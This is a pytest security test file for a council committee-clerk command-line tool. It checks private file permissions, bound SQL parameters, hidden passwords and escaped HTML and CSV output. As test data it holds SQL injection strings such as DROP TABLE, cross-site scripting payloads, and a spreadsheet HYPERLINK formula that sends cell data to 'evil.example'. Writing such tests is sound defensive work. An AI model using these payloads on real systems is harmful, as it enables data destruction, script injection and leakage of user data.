"""Security and personal data: private files, bound SQL, no secrets shown, escaped output."""

from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from .helpers import is_postgres, orm_read, row_counts

CLERK_SRC = Path(__file__).resolve().parents[2] / "clerk_cli"

INJECTIONS = [
    "'); DROP TABLE action; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM audit WHERE ('1'='1",
    "%s %(x)s ? :name $1 \\' \\\" ;",
    "1; UPDATE committee SET code='X' --",
]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# ---- files are readable by their owner only ----------------------------------


def test_database_and_its_wal_files_are_private_even_with_umask_0(sqlite_only, tmp_path):
    from clerk_cli.cli import main

    old = os.umask(0)
    try:
        result = CliRunner().invoke(
            main, ["--db", sqlite_only, "committee", "add", "Audit Committee", "--code", "AC"]
        )
        assert result.exit_code == 0, result.output
        # Another clerk holds the database open, so its -wal and -shm files exist.
        holder = sqlite3.connect(sqlite_only)
        holder.execute("SELECT COUNT(*) FROM committee").fetchone()
        result = CliRunner().invoke(
            main, ["--db", sqlite_only, "add-action", "x", "--committee", "AC"]
        )
        assert result.exit_code == 0, result.output
        modes = {f.name: _mode(f) for f in tmp_path.glob("clerk.db*")}
        holder.close()
    finally:
        os.umask(old)
    assert set(modes) >= {"clerk.db", "clerk.db-wal", "clerk.db-shm"}
    assert set(modes.values()) == {0o600}, modes


def test_backups_and_written_files_are_private(seeded, db_url, tmp_path):
    outputs = {
        "backup.db": ("db", "backup"),
        "export.json": ("export", "--format", "json", "--output"),
        "export.csv": ("export", "--format", "csv", "--output"),
        "log.html": ("action-log", "CSSC", "--format", "html", "--output"),
    }
    old = os.umask(0)
    try:
        for name, args in outputs.items():
            if name == "backup.db" and is_postgres(db_url):
                continue  # PostgreSQL is backed up with pg_dump
            result = seeded(*args, str(tmp_path / name))
            assert result.exit_code == 0, (args, result.output)
            assert _mode(tmp_path / name) == 0o600, name
    finally:
        os.umask(old)


# ---- SQL only with bound parameters ---------------------------------------------


def test_injection_strings_are_stored_verbatim_and_tables_survive(db_url, cli, db):
    from sqlalchemy import inspect
    from sqlmodel import select

    from clerk_cli.schema import Action, Committee, Meeting, Note, Owner, OwnerHolder, Resolution

    with db.engine.connect() as conn:
        tables = set(inspect(conn).get_table_names())
    for i, evil in enumerate(INJECTIONS):
        code = f"C{i}"
        steps = [
            (
                "committee",
                "add",
                f"{evil} {i}",
                "--code",
                code,
                "--clerk",
                f"{evil} <clerk{i}@example.gov.uk>",
            ),
            ("meeting", "add", code, "14/06/2022", "--title", evil),
            ("add-resolution", evil, "--meeting", f"{code}/2022-06-14", "--ref", evil),
            ("owner", "add", f"{evil} post {i}", "--holder", f"{evil} <holder{i}@example.gov.uk>"),
            (
                "add-action",
                evil,
                "--meeting",
                f"{code}/2022-06-14",
                "--owner",
                f"{evil} post {i}",
                "--resolution",
                evil,
                "--by",
                evil,
            ),
            ("note", f"{code}-1", evil, "--by", evil),
        ]
        for step in steps:
            result = cli(*step)
            assert result.exit_code == 0, (step, result.output)
        found = cli("list", "--search", evil, "--format", "csv")
        assert found.exit_code == 0 and f"{code}-1" in found.stdout

    def check(s):
        assert sorted(c.name for c in s.exec(select(Committee))) == sorted(
            f"{e} {i}" for i, e in enumerate(INJECTIONS)
        )
        # (A display name in double quotes, "Name" <email>, loses its quotes, as in email,
        # and a person's name has its spaces tidied.)
        assert {c.clerk_name for c in s.exec(select(Committee))} == {
            " ".join(e.strip('"').split()) for e in INJECTIONS
        }
        assert sorted(m.title for m in s.exec(select(Meeting))) == sorted(INJECTIONS)
        assert sorted((r.ref, r.text) for r in s.exec(select(Resolution))) == sorted(
            (e, e) for e in INJECTIONS
        )
        assert sorted(o.name for o in s.exec(select(Owner))) == sorted(
            f"{e} post {i}" for i, e in enumerate(INJECTIONS)
        )
        assert sorted(h.name for h in s.exec(select(OwnerHolder))) == sorted(
            " ".join(e.strip('"').split()) for e in INJECTIONS
        )
        assert sorted(a.text for a in s.exec(select(Action))) == sorted(INJECTIONS)
        assert sorted((n.text, n.author) for n in s.exec(select(Note))) == sorted(
            (e, e) for e in INJECTIONS
        )

    orm_read(db, check)
    with db.engine.connect() as conn:
        assert set(inspect(conn).get_table_names()) == tables
    counts = row_counts(db_url)
    assert counts["action"] == counts["note"] == counts["committee"] == len(INJECTIONS)


# Lines of clerk that build SQL text with an f-string, each checked by hand:
# what they interpolate is not user input.
REVIEWED_SQL = {
    ("db.py", 'cur.execute(f"PRAGMA busy_timeout = {busy_timeout_ms():d}")'),  # an int
    ("db.py", 'conn.exec_driver_sql(f"BEGIN {mode}")'),  # IMMEDIATE or DEFERRED
    (
        "exports.py",
        "f\"SELECT setval(pg_get_serial_sequence('{t.name}', 'id'), \"",
    ),  # model table names
    # The plain-SQL layer: column lists, joins and "?" placeholders, all constants of
    # queries.py; every value a user typed is a parameter.
    ("queries.py", 'f"SELECT {_COLUMNS} FROM action a "'),
    ("queries.py", 'sql = f"SELECT a.id {_from(uses)}{_where(cl)}"'),
    (
        "queries.py",
        'f"SELECT a.id {_from(uses | set(order_uses))}{_where(cl)} ORDER BY {order_sql} LIMIT ?"',
    ),
    ("queries.py", 'total = q.scalar(f"SELECT count(*) {_from(uses)}{_where(cl)}", params)'),
    # Table and column names from clerk's own code, values as "?" parameters.
    ("sql.py", 'sql = f"INSERT INTO {table} ({cols}) VALUES ({placeholders(len(values))})"'),
    # undo: the column is a value of store.undo._COLUMNS (clerk's own names); ids as "?".
    ("undo.py", "f'UPDATE action SET \"{column}\" = ? WHERE id = ?',"),
    (
        "undo.py",
        'f"UPDATE action SET updated_at = ? WHERE id IN ({placeholders(len(change.rows))})",',
    ),
}
SQL_FSTRING = re.compile(
    r"""f["'](?:SELECT|INSERT|UPDATE|DELETE|PRAGMA|BEGIN|DROP|CREATE|ALTER|WITH)\b"""
)


def test_sql_is_never_built_from_strings():
    found = set()
    for path in CLERK_SRC.rglob("*.py"):
        for line in path.read_text(encoding="utf-8").splitlines():
            if SQL_FSTRING.search(line) or re.search(
                r"(text|exec_driver_sql|execute)\(\s*f[\"']", line
            ):
                found.add((path.name, line.strip()))
            assert not re.search(r"(text|execute)\([^)]*%\s*\(", line), (path, line)
    assert found <= REVIEWED_SQL, found - REVIEWED_SQL


# ---- secrets ----------------------------------------------------------------


def test_no_option_takes_a_secret():
    """Passwords never go on command lines, where ps and shell history would show them."""
    import click

    from clerk_cli.cli import main

    def walk(cmd, path):
        for p in cmd.params:
            names = " ".join(p.opts + [p.name or ""]).lower()
            assert not re.search(r"pass|secret|token|credential", names), (path, p.opts)
        if isinstance(cmd, click.Group):
            ctx = click.Context(cmd)
            for name in cmd.list_commands(ctx):
                walk(cmd.get_command(ctx, name), f"{path} {name}")

    walk(main, "clerk")


def test_database_password_is_never_shown(tmp_path):
    from clerk_cli.cli import main

    url = "postgresql+psycopg://clerk:Tr0ub4dor-pw@127.0.0.1:1/clerk?password=Tr0ub4dor-pw"
    runner = CliRunner()
    for args in (
        ["db", "path"],
        ["db", "current"],
        ["list"],
        ["add-action", "x", "--committee", "AC"],
    ):
        result = runner.invoke(main, ["--db", url, *args], env={"PGCONNECT_TIMEOUT": "2"})
        assert "Tr0ub4dor" not in result.output, result.output
        assert "clerk:***@127.0.0.1" in result.output


def test_smtp_password_is_never_shown(seeded, db_url, tmp_path):
    secret = "Sm7p-s3cret-Pw"
    env = {
        "CLERK_SMTP_PASSWORD": secret,
        "CLERK_SMTP_HOST": "127.0.0.1",
        "CLERK_SMTP_PORT": "1",
        "CLERK_SMTP_USER": "democratic.services",
        "CLERK_SMTP_SECURITY": "none",
        "CLERK_FROM": "Democratic Services <ds@example.gov.uk>",
    }
    shown = seeded("config", "show", env=env)
    assert shown.exit_code == 0 and secret not in shown.output
    assert "smtp.password" in shown.output
    sent = seeded("digest", "--send", "--as-of", "2022-10-03", env=env)
    assert sent.exit_code == 1  # nothing listens on port 1
    assert secret not in sent.output
    debug = seeded("--debug", "digest", "--send", "--as-of", "2022-10-03", env=env)
    assert secret not in debug.output


# ---- output is escaped --------------------------------------------------------


def test_html_output_is_escaped(seeded, tmp_path):
    evil = '<script>alert("x")</script> & <img src=x onerror=alert(1)>'
    assert (
        seeded("add-action", evil, "--meeting", "CSSC/2022-06-14", "--due", "31/12/2022").exit_code
        == 0
    )
    assert seeded("note", "CSSC-2", evil).exit_code == 0
    result = seeded("action-log", "CSSC", "--format", "html", "--as-of", "2022-10-01")
    assert result.exit_code == 0, result.output
    assert "&lt;script&gt;" in result.stdout
    assert "<script>" not in result.stdout and "<img" not in result.stdout


@pytest.mark.parametrize(
    "args",
    [
        ("list", "--all-statuses", "--format", "csv"),
        ("export", "--format", "csv"),
        ("report", "--overdue", "--format", "csv", "--as-of", "2023-06-01"),
        ("action-log", "CSSC", "--format", "csv", "--as-of", "2022-10-01"),
    ],
)
def test_csv_formulas_are_neutralised(seeded, args):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    for f in formulas:
        result = seeded(
            "add-action", "--meeting", "CSSC/2022-06-14", "--due", "31/12/2022", "--", f
        )
        assert result.exit_code == 0, result.output
    result = seeded(*args)
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert cells, result.stdout
    ours = [c for c in cells if any(f in c for f in formulas)]
    assert len(ours) >= len(formulas), cells
    for c in ours:
        assert not c.startswith(("=", "+", "-", "@")), c
